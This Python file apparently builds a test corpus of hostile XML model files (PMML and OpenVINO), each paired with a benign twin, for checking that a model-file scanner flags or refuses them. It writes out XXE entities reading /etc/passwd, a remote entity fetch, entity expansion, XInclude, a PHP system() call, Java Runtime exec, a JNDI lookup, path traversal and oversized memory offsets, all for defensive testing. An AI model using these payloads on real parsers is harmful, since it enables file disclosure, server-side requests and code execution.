"""XML models that make their parser fetch or expand something, or their evaluator run code."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from corpora.case import Case, Expectation, Technique
from corpora.real_models import CATBOOST_PMML, OPENVINO

if TYPE_CHECKING:
    from collections.abc import Iterator

DECLARATION: Final = b'<?xml version="1.0" encoding="UTF-8"?>'
PMML: Final = b'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">%b</PMML>'
FETCHED: Final = "http://example.invalid/x"
# Name: what stands before the model.
PROLOGUES: Final = {
    "entity of a file (CVE-2018-1000632)": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "entity of the network": f'<!DOCTYPE PMML [<!ENTITY x SYSTEM "{FETCHED}">]>',
    "public entity": f'<!DOCTYPE PMML [<!ENTITY x PUBLIC "y" "{FETCHED}">]>',
    "parameter entity": f'<!DOCTYPE PMML [<!ENTITY % x SYSTEM "{FETCHED}"> %x;]>',
    "entities that unfold": '<!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    "document type elsewhere": f'<!DOCTYPE PMML SYSTEM "{FETCHED}">',
    "style sheet": f'<?xml-stylesheet type="text/xsl" href="{FETCHED}"?>',
    "instruction of PHP": "<?php system('true'); ?>",
}
# Name: what stands in the model, and what an ordinary one has there.
ELEMENTS: Final = {
    "inclusion": (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
        '<Extension name="x" value="y"/>',
    ),
    "style sheet within": (
        '<xsl:import xmlns:xsl="http://www.w3.org/1999/XSL/Transform" href="x"/>',
        "<Header/>",
    ),
    "script": ("<script>x</script>", "<Header/>"),
    "function that is a class of Java": (
        '<Apply function="java.lang.Runtime"><Constant>x</Constant></Apply>',
        '<Apply function="max"><Constant>1</Constant></Apply>',
    ),
    "function of scripts": ('<Apply function="javax.script.ScriptEngineManager"/>', '<Apply function="pow"/>'),
    "code in an attribute": (
        '<Extension name="x" value="Runtime.getRuntime().exec(1)"/>',
        '<Extension name="x" value="runtime of 3 s"/>',
    ),
    "address that is looked up": ('<Extension value="jndi:ldap://example.invalid/x"/>', '<Extension value="x"/>'),
    "table outside": ('<TableLocator path="../../etc/passwd"/>', '<TableLocator path="table.csv"/>'),
}
LAYERS: Final = {
    "weights beyond all memory": ('offset="0"', 'offset="18446744073709551000"'),
    "offset that is no number": ('offset="0"', 'offset="-4"'),
    "weights that are too short": ('size="36"', 'size="2"'),
    "shape that is no number": ('shape="6, 3"', 'shape="6, x"'),
    "shape beyond all memory": ('shape="6, 3"', 'shape="4294967295, 4294967295"'),
}


def cases() -> Iterator[Case]:
    """Yield PMML with each prologue and element, also in wide characters, and models of OpenVINO."""
    plain = DECLARATION + PMML % b"<Header/>"
    for name, prologue in PROLOGUES.items():
        data = DECLARATION + prologue.encode() + PMML % b"<Header/>"
        yield _case(f"pmml: {name}", data, plain, "model.pmml")
        yield _case(f"pmml of any name: {name}", data, plain, "model")
    for name, (element, ordinary) in ELEMENTS.items():
        data, twin = (PMML % inner.encode() for inner in (element, ordinary))
        yield _case(f"pmml: {name}", data, twin, "model.pmml")
    wide = DECLARATION.decode().replace("UTF-8", "UTF-16") + PROLOGUES["entity of the network"] + "<PMML/>"
    yield _case("pmml: in UTF-16", wide.encode("utf-16"), plain.decode().encode("utf-16"), "model.pmml")
    other = f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{FETCHED}"> %x;]><a/>'.encode()
    yield _case("xml that is no model: entity of the network", DECLARATION + other, b"<a><b/></a>", "config.xml")
    for name, (old, new) in LAYERS.items():
        yield _case(f"openvino: {name}", OPENVINO.replace(old.encode(), new.encode(), 1), OPENVINO, "model.xml")
    for name, data in (
        ("pmml: function of strangers", PMML % b'<Apply function="com.example.Evil"/>'),
        ("pmml: cut", CATBOOST_PMML[:-40]),
        ("pmml: unknown encoding", b'<?xml version="1.0" encoding="x-evil"?><PMML/>'),
        ("openvino: operations of strangers", OPENVINO.replace(b'version="opset1"', b'version="evil"', 1)),
    ):
        expectation = Expectation.REFUSED
        yield Case(
            name=name, technique=Technique.XML, data=data, expectation=expectation, file_name="model.pmml"
        )  # fmt: skip  # one thought


def _case(name: str, data: bytes, twin: bytes, file_name: str) -> Case:
    if data == twin:
        raise ValueError(f"expected `{name}` to differ from its twin")
    return Case(
        name=name,
        technique=Technique.XML,
        data=data,
        expectation=Expectation.FLAGGED,
        twin=twin,
        file_name=file_name,
    )
